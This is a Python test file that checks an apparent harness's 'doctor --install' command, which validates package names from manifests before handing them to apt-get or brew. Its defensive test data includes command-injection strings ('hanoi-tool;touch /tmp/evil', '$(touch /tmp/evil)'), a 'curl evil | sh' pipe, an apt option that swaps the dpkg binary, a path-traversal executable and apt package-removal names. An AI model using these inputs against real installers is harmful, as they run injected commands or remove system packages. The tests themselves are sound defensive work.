"""What ``harness doctor --install`` hands an installer: package names its manifest's parser has
checked against the installer's grammar, after ``--``, and nothing else. A manifest's text that is
an option, or a command line, never reaches apt-get or brew: it is that port's manifest error."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from conftest import FAKE_PORTS, harness_here, suite
from harness.discover import MANIFEST, load_port
from harness.doctor import APT_LOCK_SECONDS
from integration.conftest import needs_bubblewrap, stubbed_installers

MISSING = (FAKE_PORTS / "missing-interpreter" / MANIFEST).read_text()


def installs(calls: Path) -> list[str]:
    """The install commands apt-get was given, each from its action on: what it installs."""
    said = [line.removeprefix("sudo ").split(" ", 2) for line in calls.read_text().splitlines() if line.startswith(("apt-get", "sudo apt-get"))]
    assert all(words[1] == f"--option=DPkg::Lock::Timeout={APT_LOCK_SECONDS}" for words in said), said
    return [words[2] for words in said if words[2].startswith("install")]


def port_needing(tmp_path: Path, name: str, packages: str, key: str = "debian") -> Path:
    """A port of its own executable, which no machine has, and the packages that would provide it."""
    folder = tmp_path / "fakes" / name
    folder.mkdir(parents=True)
    manifest = MISSING.replace('install = "apt-get install hanoi-interpreter"', f"{key} = {packages!r}")
    (folder / MANIFEST).write_text(manifest.replace("hanoi-interpreter-nobody-has", f"hanoi-{name}-nobody-has"))
    return folder


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("debian", "-oDir::Bin::dpkg=/tmp/evil.sh"),
        ("debian", "hanoi-tool --allow-unauthenticated"),
        ("debian", "hanoi-tool;touch /tmp/evil"),
        ("debian", "$(touch /tmp/evil)"),
        ("homebrew", "--HEAD"),
        ("homebrew", "tool && curl evil | sh"),
        ("homebrew", "someone/tap/tool"),  # brew would tap (clone and trust) someone's repository first
        ("homebrew", "homebrew/core/gcc"),  # a plain name finds the same formula
    ],
)
def test_a_package_that_is_no_package_name_is_the_ports_manifest_error_naming_the_key(tmp_path, key, text):
    port = load_port(port_needing(tmp_path, "option", text, key) / MANIFEST)
    assert port.manifest_error is not None and f"'{key}' names packages" in port.manifest_error, port.manifest_error
    assert port.requires == ()


@pytest.mark.parametrize(
    ("key", "text"), [("debian", "swi-prolog-nox"), ("debian", "g++ libc6-dev"), ("homebrew", "python@3.12"), ("homebrew", "gcc")],
)
def test_real_package_names_are_taken(tmp_path, key, text):
    port = load_port(port_needing(tmp_path, "fine", text, key) / MANIFEST)
    assert port.manifest_error is None
    assert getattr(port.requires[0], key) == text


def test_an_executable_that_is_a_path_or_an_option_is_refused(tmp_path):
    folder = port_needing(tmp_path, "path", "hanoi-tool")
    (folder / MANIFEST).write_text((folder / MANIFEST).read_text().replace('executable = "hanoi-path-nobody-has"', 'executable = "../../bin/evil"'))
    assert "'executable' is a program's name" in (load_port(folder / MANIFEST).manifest_error or "")


def test_doctor_install_passes_names_after_a_double_dash_and_never_a_manifests_option(tmp_path):
    port_needing(tmp_path, "lacking", "hanoi-interpreter")
    port_needing(tmp_path, "option", "-oDir::Bin::dpkg=/tmp/evil.sh")
    root = suite(tmp_path, "lacking", "option", real=(), fakes_from=tmp_path / "fakes")
    path, calls = stubbed_installers(tmp_path)
    done = harness_here("--root", str(root), "doctor", "--install", env={"PATH": path})
    assert installs(calls) == ["install -y -qq -- hanoi-interpreter"], calls.read_text()
    assert "evil" not in calls.read_text()
    assert done.returncode == 1 and "Traceback" not in done.stderr
    listed = harness_here("--root", str(root), "list", "--format", "plain", "--port", "option")
    assert listed.returncode == 1 and "'debian' names packages" in listed.stdout + listed.stderr, listed.stdout + listed.stderr


@needs_bubblewrap
def test_doctor_install_gets_a_system_copy_of_a_tool_the_sandbox_cannot_see(tmp_path):
    """rustup's rustc, first on PATH in a home: found, but not where the sandbox looks; where the sandbox works, --install asks for the system's."""
    home = tmp_path / "home" / ".cargo" / "bin"
    home.mkdir(parents=True)
    (home / "hanoi-homely-nobody-has").write_text("#!/bin/sh\n")
    (home / "hanoi-homely-nobody-has").chmod(0o755)
    port_needing(tmp_path, "homely", "hanoi-interpreter")
    root = suite(tmp_path, "homely", real=(), fakes_from=tmp_path / "fakes")
    path, calls = stubbed_installers(tmp_path)
    done = harness_here("--root", str(root), "doctor", "--install", env={"PATH": f"{home}{os.pathsep}{path}"})
    assert installs(calls) == ["install -y -qq -- hanoi-interpreter"], calls.read_text()
    line = next(line for line in done.stdout.splitlines() if line.startswith("hanoi-homely-nobody-has"))
    assert "not installed in the sandbox" in line and str(home) in line, done.stdout
    assert done.returncode == 0, done.stdout + done.stderr  # found, for every mode but the sandbox


def test_doctor_install_never_hands_apt_a_name_it_would_read_as_an_action_or_a_pattern(tmp_path):
    """apt removes a package named with a trailing '-' and reads a name it does not know as a regular
    expression (``lib.+``, every package whose name holds "lib"; ``hanoi.tool``, hanoi-tool): the
    first are their ports' manifest errors, and a name apt's lists do not hold exactly is not given."""
    port_needing(tmp_path, "lacking", "hanoi-interpreter")
    port_needing(tmp_path, "removes", "openssh-server- sudo-")
    port_needing(tmp_path, "matches", "lib.+")
    port_needing(tmp_path, "unknown", "hanoi.tool")
    root = suite(tmp_path, "lacking", "removes", "matches", "unknown", real=(), fakes_from=tmp_path / "fakes")
    path, calls = stubbed_installers(tmp_path)
    done = harness_here("--root", str(root), "doctor", "--install", env={"PATH": path})
    called = calls.read_text()
    assert installs(calls) == ["install -y -qq -- hanoi-interpreter"], called
    assert "sudo-" not in called and "lib." not in called, called
    assert done.returncode == 1 and "apt's lists hold no package named hanoi.tool, so apt-get was not given it" in done.stderr, done.stderr
    checked = harness_here("check", str(root))
    assert checked.returncode == 1, checked.stdout
    assert f"{root / 'removes' / MANIFEST}:9: [[requires]] 'debian' names packages, separated by spaces; 'openssh-server-'" in checked.stdout, checked.stdout
    assert f"{root / 'matches' / MANIFEST}:9: [[requires]] 'debian' names packages, separated by spaces; 'lib.+'" in checked.stdout, checked.stdout
